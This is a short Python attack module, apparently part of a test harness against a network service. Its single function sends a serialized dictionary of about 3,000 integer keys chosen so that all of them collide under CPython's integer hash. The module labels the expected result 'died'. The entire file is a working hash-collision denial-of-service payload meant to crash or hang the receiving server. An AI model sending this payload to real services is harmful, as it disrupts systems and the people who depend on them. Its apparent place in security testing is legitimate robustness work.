"""Send a dict whose keys all have one hash."""

import struct

from raw import connection, framed, packed, returned

HARM = "died"


def attack():
    connection().sendall(
        framed(
            returned(
                packed(
                    b"d",
                    *(
                        part
                        for n in range(1, 3000)
                        for part in (
                            b"I" + struct.pack("<Q", len(f"{n * (2**61 - 1):x}")) + f"{n * (2**61 - 1):x}".encode(),
                            b"N",
                        )
                    ),
                )
            )
        )
    )
    return 42
